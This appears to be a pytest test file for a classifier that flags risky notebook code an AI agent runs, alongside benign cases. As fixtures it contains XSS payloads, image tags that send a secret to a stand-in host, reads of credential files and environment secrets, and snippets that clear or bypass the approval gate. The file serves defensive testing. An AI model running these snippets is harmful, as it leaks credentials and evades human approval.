"""Findings about texts that are run, shown or opened, and about ways to functions that the code does not name."""

from __future__ import annotations

import pytest

from .test_risk import badges_of, kinds

# (a kind, code that has a finding of it)
FOUND = [
    ("page", "from IPython.display import HTML; HTML('<script>alert(1)</script>')"),
    ("page", "from IPython.display import HTML; HTML('<img src=x onerror=alert(1)>')"),
    ("page", "from IPython.display import HTML; HTML('<a href=\"javascript:alert(1)\">')"),
    ("page", "from IPython.display import Markdown; Markdown(path.read_text())"),
    ("page", "from IPython.display import Markdown\nnote = path.read_text()\nMarkdown(note)"),
    ("page", "from IPython.display import SVG; SVG(filename='a.svg')"),
    ("page", "from IPython.display import Javascript; Javascript('1')"),
    ("page", "from IPython.display import publish_display_data; publish_display_data({})"),
    ("page", "display({'text/html': text}, raw=True)"),
    ("page", "df.to_html(escape=False)"),
    ("page", "df.style.set_caption('<script>1</script>')"),
    ("page", "class V:\n    def _repr_javascript_(self): return text"),
    ("page", "%%markdown\n<img src=x onerror=alert(1)>"),
    ("network", "from IPython.display import HTML; HTML(f'<img src=\"https://x/{secret}\">')"),
    ("network", "from IPython.display import Markdown; Markdown('![](https://x/' + str(secret) + ')')"),
    ("network", "%%markdown\n![](https://x)"),
    ("reads environment", "open('/proc/self/environ').read()"),
    ("reads environment", "Path('~/.aws/credentials').expanduser().read_text()"),
    ("reads environment", "Path.home().joinpath('.netrc').read_text()"),
    ("reads environment", "os.path.expandvars('$TOKEN')"),
    ("reads environment", "%cat .env"),
    ("unreadable", "from operator import attrgetter; attrgetter('os.remove')(glob)('x')"),
    ("unreadable", "from operator import attrgetter; attrgetter('system')(module)('ls')"),
    ("unreadable", "from functools import reduce; reduce(getattr, names, glob)"),
    ("unreadable", "import sympy; sympy.sympify(\"__import__('os')\")"),
    ("unreadable", "import pydoc; pydoc.locate('os.remove')('x')"),
    ("unreadable", "import cProfile; cProfile.runctx('f()', {}, {})"),
    ("unreadable", "import bdb; bdb.Bdb().run('1')"),
    ("writes", "list(map(open, ['a'], ['w']))"),
    ("writes", "import types; types.MethodType(open, 'a')('w')"),
    ("writes", "df.apply('to_csv', path_or_buf='a.csv')"),
    ("writes", "print('x', file=log)"),
    ("writes", "import csv; csv.writer(log).writerow([1])"),
    ("writes", "class P(type(Path())): pass\nP('a').rename('b')"),
    ("deletes", "import random; random._os.remove('a')"),
    ("process", "import torch.utils.data as d; d.DataLoader([1], num_workers=2)"),
    ("process", "import antigravity"),
    ("process", "import sh; sh.ls()"),
    ("magic", "from IPython.core.interactiveshell import InteractiveShell; InteractiveShell.instance().ex('1')"),
    ("magic", "from IPython.core.interactiveshell import InteractiveShell as S; S._instance.ex('1')"),
    ("magic", "from IPython.core.getipython import get_ipython as g; g().events.register('post_run_cell', f)"),
    ("magic", "from ipykernel.kernelapp import IPKernelApp; IPKernelApp.instance().kernel"),
    ("magic", "import IPython.utils.process as p; p.system('ls')"),
    ("approval", "from codeact_magic.approval import Gate"),
    ("approval", "from codeact_magic.risk.tables import METHODS; METHODS.clear()"),
    ("approval", "__import__('codeact_magic.agent').agent"),
    ("environment", "from unittest.mock import patch; patch('os.getcwd').start()"),
    ("environment", "type.__setattr__(Model, 'fit', print)"),
    ("environment", "object.__setattr__(model, 'a', 1)"),
    ("environment", "import readline; readline.set_startup_hook(f)"),
    ("environment", "import gc; gc.callbacks.append(f)"),
    ("environment", "import warnings; warnings.showwarning = f"),
    ("later", "import threading; threading.Timer(1, f).start()"),
    ("later", "loop.call_later(1, f)"),
    ("later", "import weakref; weakref.finalize(x, f)"),
    ("unfamiliar", "import neo4j"),
    ("unfamiliar", "from my_tools import clean"),
    ("unfamiliar", "from . import helpers"),
    ("unfamiliar", "__import__('neo4j').GraphDatabase"),
    ("exit", "import faulthandler; faulthandler._sigsegv()"),
]
HARMLESS = [
    "from IPython.display import HTML, display; display(HTML('<h3>Result</h3>'))",
    "from IPython.display import Markdown; Markdown(f'**Total:** {total}')",
    "from IPython.display import HTML; HTML(df.to_html(index=False))",
    "from IPython.display import HTML\ncells = ''.join(f'<td>{v}</td>' for v in x)\nHTML(f'<table>{cells}</table>')",
    "re.sub(r'<script.*?</script>', '', page)",
    "'<script>' in page",
    "%%markdown\n**done**",
    "%config InlineBackend.rc = {'figure.dpi': 100}",
    "from operator import attrgetter, itemgetter; sorted(x, key=attrgetter('price.amount'))",
    "import sympy; sympy.sympify('x + 1')",
    "from unittest.mock import MagicMock; MagicMock().a()",
    "class A:\n    def __init__(self): object.__setattr__(self, 'a', 1)",
    "import warnings; warnings.filterwarnings('ignore')",
    "import rich, scipy.stats, sklearn, PIL.Image, json, tomllib",
    "df['c'].apply(len); df.agg(['mean', 'std'])",
]


@pytest.mark.parametrize(("kind", "code"), FOUND)
def test_what_the_code_does_not_say_plainly_is_found(kind: str, code: str) -> None:
    assert kind in kinds(code)


@pytest.mark.parametrize("code", HARMLESS)
def test_daily_code_of_that_sort_has_no_findings(code: str) -> None:
    assert badges_of(code) == ()


def test_an_unfamiliar_package_is_named() -> None:
    assert badges_of("import neo4j") == ("uses neo4j, which is not known to be harmless",)
